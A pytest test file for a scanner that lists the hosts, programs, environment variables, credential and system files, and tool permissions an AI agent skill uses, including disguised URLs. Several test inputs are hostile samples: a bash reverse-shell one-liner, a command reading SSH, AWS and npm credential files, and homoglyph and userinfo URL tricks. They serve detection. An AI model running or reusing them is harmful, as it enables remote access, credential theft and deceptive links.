"""Capabilities: everything a skill uses is listed, however it is written, and no input breaks the list."""

import unicodedata
from dataclasses import astuple
from itertools import permutations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.model.finding import MAX_CAPABILITIES, MAX_CAPABILITY_LENGTH, Capabilities
from assay.scan.checks.capabilities import capabilities_of


def of(text: str, path: str = "SKILL.md") -> Capabilities:
    """Return the capabilities of one file."""
    return capabilities_of({path: text.encode()})


@pytest.mark.parametrize(
    ("text", "hosts"),
    [
        ("See https://API.Acme.io/v1?x=1.", ["api.acme.io"]),
        ("(https://acme.io), **https://acme.dev**, <https://acme.app>", ["acme.app", "acme.dev", "acme.io"]),
        ("ws://acme.io:8080/x ftp://files.acme.io", ["acme.io", "files.acme.io"]),
        ("https://github.com@evil.io/x", ["evil.io"]),
        ("https://user:secret@evil.io:8443", ["evil.io"]),
        ("https://github.com%2eevil.io/", ["github.com.evil.io"]),
        ("http://10.0.0.7:4444/ http://[2001:DB8::1]:80/", ["10.0.0.7", "2001:db8::1"]),
        ("http://3232235777/x http://0xC0A80101/", ["192.168.1.1"]),
        ("https://gіthub.com/ https://xn--80ak6aa92e.com/", ["xn--80ak6aa92e.com", "xn--gthub-n2e.com"]),
        ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", ["203.0.113.9"]),
        ("http://localhost:3000/ http://127.0.0.1", ["127.0.0.1", "localhost"]),
        ("https://example.com https://api.example.org/ https://x.test http://acme.invalid", []),
        ("https://${HOST}/ https://<your-domain>/ https://{host}/ https://$HOST https://your-host/", []),
        ("a // comment, and 1://2, and http:///etc", []),
    ],
)
def test_hosts(text: str, hosts: list[str]) -> None:
    """The real target of a link, without user, port or disguise; unreachable hosts are left out."""
    assert hosts == list(of(text).hosts)


SCRIPT = """#!/usr/bin/env bash
# Then run dangerous; stuff | here
set -euo pipefail
greet() { echo "hello; world | friend"; }
if command -v jq >/dev/null; then greet; fi
sudo -E apt-get install -y \\
    ripgrep
TOKEN=x /usr/bin/curl -s https://acme.io | tee out.txt && ./local.sh; scripts/own.py
files=$(find . -name '*.md; rm x' | xargs wc -l)
cat <<'EOF' > note.txt
prose that runs nothing
EOF
python3.11 -c "
import os
"
"""


@pytest.mark.parametrize(
    ("path", "text", "programs"),
    [
        ("run.sh", SCRIPT, "apt-get cat curl find jq python3.11 sudo tee wc xargs"),
        ("run", SCRIPT, "apt-get cat curl find jq python3.11 sudo tee wc xargs"),
        ("SKILL.md", "```bash\ngit push && npm test\n```\nthen `rm x`\n```\nmake x\n```\n", "git npm"),
        ("SKILL.md", "```console\n$ gh pr list\nnothing to see\n```\n```sh\nunclosed --fence", "gh unclosed"),
        ("SKILL.md", "``` {.bash}\nnot this\n```\n~~~\n", ""),
        ("a.py", "subprocess.run(['nmap', '-p', '1'])\nos.system('rm -rf x')\nsubprocess.run(command)", "nmap rm"),
        ("a.py", 'await asyncio.create_subprocess_exec(\n    "/usr/bin/ffmpeg", "-i")', "ffmpeg"),
        ("a.mjs", "import {execSync} from 'child_process'\nexecSync(`git status`); spawn('node')", "git node"),
        ("a.js", "pattern.exec('text here')", ""),
    ],
)
def test_programs(path: str, text: str, programs: str) -> None:
    """First words of commands; not quoted, commented, defined or shipped ones."""
    assert programs.split() == list(of(text, path).programs)


@pytest.mark.parametrize(
    ("path", "text", "variables"),
    [
        ("run.sh", 'A=1; echo "$A $TOKEN ${API_KEY} $lower ${A} $PWD $1"', "API_KEY TOKEN"),
        ("run.sh", 'REGION="${REGION:-eu}"; for FILE in x; do echo $FILE; done; read -r NAME; echo $NAME', "REGION"),
        ("SKILL.md", "```bash\ncurl -H $ACME_KEY\n```\nCosts $USD 5", "ACME_KEY"),
        ("a.py", "os.environ['A_KEY'], os.environ.get(\"B_KEY\"), getenv('C_KEY'), os.environ", "A_KEY B_KEY C_KEY"),
        ("a.ts", "process.env.A_KEY ?? process.env['B_KEY'] ?? Deno.env.get('c_key')", "A_KEY B_KEY c_key"),
        ("a.rs", 'std::env::var("A_KEY")', "A_KEY"),
        ("a.ps1", "$env:A_KEY", "A_KEY"),
        ("SKILL.md", "The environment. Variables: see .env.local", ""),
    ],
)
def test_environment(path: str, text: str, variables: str) -> None:
    """Variables read from outside; not those set by the script or provided by the shell."""
    assert variables.split() == list(of(text, path).environment)


@pytest.mark.parametrize(
    ("text", "files"),
    [
        (
            'cat ~/.ssh/id_rsa $HOME/.aws/credentials ${HOME}/.netrc "$HOME"/.npmrc',
            "~/.aws/credentials ~/.netrc ~/.npmrc ~/.ssh/id_rsa",
        ),
        ("Reads `/etc/passwd`, writes to /var/log/x.log.", "/etc/passwd /var/log/x.log"),
        ("-v /tmp/a:/root/b -d @/etc/shadow >/proc/1/mem", "/etc/shadow /proc/1/mem /root/b /tmp/a"),
        ("%APPDATA%\\Claude\\config.json %UserProfile%", "%APPDATA%\\Claude\\config.json %UserProfile%"),
        ("#!/usr/bin/env bash\n/bin/sh 2>/dev/null /usr/local/bin/x", ""),
        ("https://acme.io/etc/x ./etc/x docs/etc/x src/home/y </var> a/b", ""),
    ],
)
def test_outside_files(text: str, files: str) -> None:
    """Files of the user and the system; not the skill's own, and not parts of a URL."""
    assert files.split() == list(of(text).outside_files)


@pytest.mark.parametrize(
    ("lines", "tools"),
    [
        ("allowed-tools: Read, Bash(git add:*), Grep", ["Bash(git add:*)", "Grep", "Read"]),
        ("allowed-tools: Read Write Bash(npm run test:*)", ["Bash(npm run test:*)", "Read", "Write"]),
        ('allowed-tools: ["Read", "Bash(git:*)"]', ["Bash(git:*)", "Read"]),
        ("allowed-tools: [Read,\n  Write]", ["Read", "Write"]),
        ("allowed-tools:\n  - Read\n  - Bash(git:*)\nmodel: x", ["Bash(git:*)", "Read"]),
        ("allowed_tools:\n- Read", ["Read"]),
        ('allowedTools: "Read,mcp__acme__*"', ["Read", "mcp__acme__*"]),
        ("description: Lists tools that help", []),
        ("allowed-tools:", []),
    ],
)
def test_tools(lines: str, tools: list[str]) -> None:
    """In every notation of the list."""
    assert tools == list(of(f"---\nname: x\n{lines}\n---\nallowed-tools: Task\n").tools)


@pytest.mark.parametrize(
    "lines",
    [
        "requires:\n  bins: [gh, jq]\n  env:\n    - ACME_KEY",
        'metadata: {"acme": {"requires": {"bins": ["gh", "jq"], "env": ["ACME_KEY"]}}}',
        "requires:\n  bins:\n    - gh\n    - jq\nrequiredEnv: ACME_KEY",
    ],
)
def test_declared_programs_and_variables(lines: str) -> None:
    """Requirements in the front matter count even if no script uses them."""
    found = of(f"---\nname: x\n{lines}\n---\n")
    assert (("gh", "jq"), ("ACME_KEY",)) == (found.programs, found.environment)


def test_utf16_is_read_and_binaries_are_not() -> None:
    text = "See https://acme.io/"
    assert ("acme.io",) == capabilities_of({"a.txt": text.encode("utf-16")}).hosts
    assert Capabilities() == capabilities_of({"a.bin": b"\x00\x01" + text.encode()})
    assert Capabilities() == capabilities_of({})


def test_file_order_does_not_matter() -> None:
    files = {
        "SKILL.md": b"---\ntools: Read\n---\nhttps://b.io",
        "a.sh": b"curl https://a.io $KEY",
        "b.sh": b"KEY=1; git",
    }
    found = {capabilities_of(dict(order)) for order in permutations(files.items())}
    assert 1 == len(found)
    assert ("a.io", "b.io") == found.pop().hosts


def test_long_lists_are_truncated() -> None:
    text = "\n".join(
        f"https://host-{number}.io ~/.file-{number}{'x' * 300} $KEY_{number}\nprogram-{number}" for number in range(999)
    )
    found = of(text, "a.sh")
    assert [MAX_CAPABILITIES] * 4 == [
        len(kind) for kind in (found.hosts, found.programs, found.environment, found.outside_files)
    ]
    assert all(len(name) <= MAX_CAPABILITY_LENGTH for kind in astuple(found) for name in kind)


PIECES = st.sampled_from(
    [
        b"https://", b"://", b"/", b"@", b"[", b"]", b":", b"%", b"%41", b"\xd0\xb5", b"\xff", b"\x00", b"\x1b", b"\xe2\x80\xae",
        b"~/", b"$HOME/", b"/etc/", b"%APPDATA%", b"```bash\n", b"```", b"\n", b"<<EOF", b"EOF", b"'", b'"', b"\\", b"$(", b"(A=",
        b"env", b"env.A_B", b"environ['A_B']", b"subprocess.run(['", b"---\n", b"allowed-tools: ", b"- ", b"Bash(", b")", b"a.io",
        b"sudo ", b"| ", b"; ", b"$X_Y", b"X_Y=", b"bins: [", b"metadata: {",
    ]
)  # fmt: skip
CONTENTS = st.one_of(st.binary(max_size=200), st.lists(PIECES, max_size=40).map(b"".join), st.text().map(str.encode))
NAMES = st.sampled_from(["SKILL.md", "a.sh", "b.py", "c.js", "d", "e.txt", "f.bin"])


@given(st.dictionaries(NAMES, CONTENTS, max_size=4))
def test_any_bytes_give_a_valid_list(files: dict[str, bytes]) -> None:
    """Sorted, unique, bounded, and without control characters."""
    found = capabilities_of(files)
    for kind in astuple(found):
        assert list(kind) == sorted(set(kind))
        assert len(kind) <= MAX_CAPABILITIES
        for name in kind:
            assert 0 < len(name) <= MAX_CAPABILITY_LENGTH
            assert not any(unicodedata.category(character)[0] == "C" for character in name)
    assert found == capabilities_of(dict(reversed(files.items())))


@pytest.mark.parametrize(
    "piece",
    [
        b"(A=",
        b"'",
        b'"$',
        b"<<E%d\n",
        b"```bash\n",
        b"https://",
        b"a/",
        b"env.",
        b"A=1 ",
        b"~/",
        b"\n\t",
        b"- x\n",
        b"\\\n",
        b"sudo ",
    ],
)
def test_repetitive_input_is_read_in_linear_time(piece: bytes) -> None:
    text = b"---\nallowed-tools:\n" + b"".join(piece.replace(b"%d", b"%d" % number) for number in range(200_000))
    capabilities_of({"SKILL.md": text, "a.sh": text, "b.py": text})
